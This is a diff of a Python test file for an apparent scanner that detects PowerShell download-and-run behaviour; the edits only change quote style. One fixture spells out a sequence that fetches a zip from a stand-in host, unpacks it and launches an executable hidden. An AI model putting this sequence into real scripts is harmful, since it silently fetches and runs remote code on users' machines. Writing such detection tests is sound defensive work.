@@ -39,10 +39,10 @@ def test_unpacked_download_started_hidden(tmp_path: Path) -> None:
     errors = scan_errors(
         tmp_path,
         {
-            "scripts/update.ps1": "$dest = \"$env:LOCALAPPDATA\\Renderer\"\n"
-            "Invoke-WebRequest -Uri https://render.cdn.invalid/r.zip -OutFile \"$env:TEMP\\r.zip\"\n"
-            "Expand-Archive -LiteralPath \"$env:TEMP\\r.zip\" -DestinationPath $dest -Force\n"
-            "Start-Process -FilePath \"$dest\\render.exe\" -WindowStyle Hidden\n"
+            "scripts/update.ps1": '$dest = "$env:LOCALAPPDATA\\Renderer"\n'
+            'Invoke-WebRequest -Uri https://render.cdn.invalid/r.zip -OutFile "$env:TEMP\\r.zip"\n'
+            'Expand-Archive -LiteralPath "$env:TEMP\\r.zip" -DestinationPath $dest -Force\n'
+            'Start-Process -FilePath "$dest\\render.exe" -WindowStyle Hidden\n'
         },
     )
     assert ("DOWNLOAD_AND_RUN", "scripts/update.ps1", 4) in errors
@@ -57,8 +57,8 @@ def test_bundled_archive_unpacked_and_run_stays_clean(tmp_path: Path) -> None:
             "Expand-Archive -Path (Join-Path $PSScriptRoot 'tilesync.zip') -DestinationPath $tools -Force\n"
             "& (Join-Path $tools 'tilesync.exe') --quiet\n",
             "scripts/data.ps1": "$out = Join-Path $env:TEMP 'tiles'\n"
-            "Invoke-WebRequest -Uri https://tiles.mirror.invalid/set.zip -OutFile \"$env:TEMP\\set.zip\"\n"
-            "Expand-Archive -Path \"$env:TEMP\\set.zip\" -DestinationPath $out -Force\n"
+            'Invoke-WebRequest -Uri https://tiles.mirror.invalid/set.zip -OutFile "$env:TEMP\\set.zip"\n'
+            'Expand-Archive -Path "$env:TEMP\\set.zip" -DestinationPath $out -Force\n'
             "Get-ChildItem $out -Filter *.png | Measure-Object\n"
             "& (Join-Path $env:ProgramFiles 'Viewer\\viewer.exe') $out\n",
         },
